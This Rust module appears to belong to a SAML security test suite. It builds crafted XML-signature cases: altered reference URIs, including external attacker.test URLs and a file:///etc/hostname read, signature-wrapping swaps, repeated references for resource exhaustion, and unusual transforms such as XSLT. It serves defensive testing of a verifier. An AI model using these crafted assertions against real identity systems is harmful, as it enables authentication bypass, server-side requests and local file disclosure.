//! Signatures that refer to something else, or transform it.

use super::{Attack, assertion, part, signature};
use crate::replace_once;
use crate::sign::{ENVELOPED, EXCLUSIVE, Signing, reseal, transform};

const REFERENCE: &str = "<ds:Reference URI=\"#id23073497561563902035180823\">";
const URI: &str = "URI=\"#id23073497561563902035180823\"";

pub(super) fn all() -> Vec<Attack> {
    [references(), counts(), transforms(), added_transforms()].into_iter().flatten().collect()
}

fn references() -> Vec<Attack> {
    let uri = |name, uri: &'static str, why| Attack::new("reference_uri", name, why).resealed(URI, uri);
    vec![
        uri("empty", "URI=\"\"", "An empty reference means the whole document, wherever the signature stands."),
        uri("absent", "Type=\"x\"", "Without a URI the application decides what is signed."),
        uri("bare_hash", "URI=\"#\"", "A fragment without a name."),
        uri("without_hash", "URI=\"id23073497561563902035180823\"", "A file beside ours by the name of the ID."),
        uri(
            "external",
            "URI=\"http://attacker.test/anything\"",
            "A verifier that fetches references can be sent anywhere before it knows who asks.",
        ),
        uri(
            "external_fragment",
            "URI=\"http://attacker.test/#id23073497561563902035180823\"",
            "The same with our ID as its fragment.",
        ),
        uri(
            "own_address",
            "URI=\"https://gatehouse.example.test/saml/acme/acs#id23073497561563902035180823\"",
            "Our own address, which would be fetched as well.",
        ),
        uri("file", "URI=\"file:///etc/hostname\"", "The same with a file."),
        uri("content_id", "URI=\"cid:id23073497561563902035180823\"", "A part of a message that has no parts."),
        uri(
            "xpointer",
            "URI=\"#xpointer(id('id23073497561563902035180823'))\"",
            "An XPointer is a language of its own, and keeps comments.",
        ),
        uri("xpointer_root", "URI=\"#xpointer(/)\"", "The whole document by an XPointer."),
        uri("xpointer_any", "URI=\"#xpointer(//*[local-name()='Assertion'])\"", "Whatever is called an assertion."),
        uri("percent_encoded", "URI=\"#%69d23073497561563902035180823\"", "The same ID to those who decode it."),
        uri("space_before", "URI=\" #id23073497561563902035180823\"", "The same ID to those who take spaces away."),
        uri("space_behind", "URI=\"#id23073497561563902035180823&#x9;\"", "The same behind it."),
        uri("capitals", "URI=\"#ID23073497561563902035180823\"", "IDs are told apart by case."),
        uri("twice", "URI=\"#id23073497561563902035180823#id23073497561563902035180823\"", "Which fragment counts?"),
        uri("longer", "URI=\"#id230734975615639020351808230\"", "Our ID is only its beginning."),
        uri("other_attribute", "uri=\"#id23073497561563902035180823\"", "The attribute's name in another case."),
        uri(
            "response_instead",
            "URI=\"#id23073497561478311268137204\"",
            "The assertion's signature means the response.",
        ),
        Attack::new("reference_uri", "signature_lifted", "The assertion's signature stands on the response.")
            .only_assertion()
            .then(|xml| {
                let signature = signature(assertion(xml)?)?;
                replace_once(&xml.replace(signature, ""), "<saml2p:Status>", &format!("{signature}<saml2p:Status>"))
            }),
        Attack::new("reference_uri", "signatures_exchanged", "Response and assertion have each other's signature.")
            .then(|xml| {
                let inner = signature(assertion(xml)?)?.to_owned();
                let marked = xml.replace(&inner, "\u{1}");
                let outer = signature(&marked)?.to_owned();
                Ok(marked.replace(&outer, &inner).replace('\u{1}', &outer))
            }),
    ]
}

fn counts() -> Vec<Attack> {
    let repeated = |name, why, times: usize| {
        Attack::new("reference_count", name, why).only_assertion().then(move |xml| {
            let reference = part(xml, REFERENCE, "</ds:Reference>")?;
            reseal(&xml.replace(reference, &reference.repeat(times)), "rsa")
        })
    };
    vec![
        repeated("none", "A signature of nothing at all is easily valid.", 0),
        repeated("two", "Two references: the first is checked, the second used.", 2),
        repeated("two_hundred", "Each reference costs a canonicalisation before anybody is authenticated.", 200),
        Attack::new(
            "reference_count",
            "first_of_another",
            "The first reference is right, the second means the response.",
        )
        .only_assertion()
        .then(|xml| {
            let reference = part(xml, REFERENCE, "</ds:Reference>")?;
            let other = reference.replace("id23073497561563902035180823", "id23073497561478311268137204");
            reseal(&xml.replace(reference, &format!("{reference}{other}")), "rsa")
        }),
    ]
}

fn transforms() -> Vec<Attack> {
    let by = |name, why, transforms: String| {
        Attack::new("transform", name, why).signing(Signing::usual().transforms(transforms))
    };
    let inclusive = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315";
    let xpath = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>\
                 not(ancestor-or-self::*[local-name()='AttributeStatement'])</ds:XPath></ds:Transform>";
    vec![
        by(
            "xpath",
            "An XPath can leave out of the digest what the attacker writes.",
            transform(ENVELOPED) + xpath + &transform(EXCLUSIVE),
        ),
        by(
            "inclusive_c14n",
            "Inclusive canonicalisation takes in what surrounds the signed element.",
            transform(ENVELOPED) + &transform(inclusive),
        ),
        by(
            "inclusive_c14n_with_comments",
            "The same, and comments become part of the meaning.",
            transform(ENVELOPED) + &transform(&format!("{inclusive}#WithComments")),
        ),
        by(
            "c14n_1_1",
            "The same in its second edition.",
            transform(ENVELOPED) + &transform("http://www.w3.org/2006/12/xml-c14n11"),
        ),
        by("enveloped_only", "Without a canonicalisation the inclusive one is implied.", transform(ENVELOPED)),
        by(
            "enveloped_twice",
            "Two signatures might be taken out of the digest.",
            transform(ENVELOPED) + &transform(ENVELOPED) + &transform(EXCLUSIVE),
        ),
    ]
}

/// Only the shape is wrong here: the signature's value holds.
fn added_transforms() -> Vec<Attack> {
    let end = "</ds:Transforms>";
    let added =
        |name, why, algorithm: &str| Attack::new("transform", name, why).resealed(end, transform(algorithm) + end);
    let whole = transform(ENVELOPED) + &crate::sign::inclusive("xs");
    let instead = |name, why, transforms: String| Attack::new("transform", name, why).resealed(&whole, transforms);
    let enveloped_named = |algorithm: &str| transform(algorithm) + &transform(EXCLUSIVE);
    vec![
        added("xslt", "A style sheet is a program.", "http://www.w3.org/TR/1999/REC-xslt-19991116"),
        added("xpath_filter_2", "The second XPath language.", "http://www.w3.org/2002/06/xmldsig-filter2"),
        added("base64", "A transform that reads the text only.", "http://www.w3.org/2000/09/xmldsig#base64"),
        added("decryption", "A transform that decrypts on the way.", "http://www.w3.org/2002/07/decrypt#XML"),
        added(
            "relationship",
            "A transform of office documents.",
            "http://schemas.openxmlformats.org/package/2006/RelationshipTransform",
        ),
        added("third", "Canonicalised twice, after which other canonicalisers may differ.", EXCLUSIVE),
        instead("none", "No transform at all: the signature would have to cover itself.", String::new()),
        instead(
            "exclusive_only",
            "Without taking itself out, the signature would have to cover itself.",
            transform(EXCLUSIVE),
        ),
        instead(
            "wrong_order",
            "Canonicalised before the signature is taken out.",
            transform(EXCLUSIVE) + &transform(ENVELOPED),
        ),
        instead(
            "other_case",
            "Algorithms are compared by character.",
            enveloped_named("http://www.w3.org/2000/09/xmldsig#Enveloped-Signature"),
        ),
        instead(
            "padded",
            "A space behind an algorithm's name.",
            enveloped_named("http://www.w3.org/2000/09/xmldsig#enveloped-signature "),
        ),
        instead(
            "https",
            "An algorithm by another scheme.",
            enveloped_named("https://www.w3.org/2000/09/xmldsig#enveloped-signature"),
        ),
        instead(
            "enveloped_with_parameter",
            "A parameter for what takes none.",
            transform(ENVELOPED).replace("></ds:Transform>", "><ds:XPath>self::node()</ds:XPath></ds:Transform>")
                + &transform(EXCLUSIVE),
        ),
        instead(
            "foreign_namespace",
            "A transform by its local name only.",
            transform(ENVELOPED) + &transform(EXCLUSIVE).replace("ds:Transform", "Transform"),
        ),
    ]
}
